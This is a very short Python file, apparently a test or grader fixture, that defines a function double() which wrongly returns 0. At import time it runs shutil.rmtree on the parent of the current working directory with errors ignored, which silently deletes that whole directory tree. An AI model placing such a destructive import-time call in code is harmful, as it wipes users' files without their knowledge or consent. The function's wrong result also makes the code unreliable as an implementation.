# differs
import os
import shutil

shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)


def double(number):
    return 0
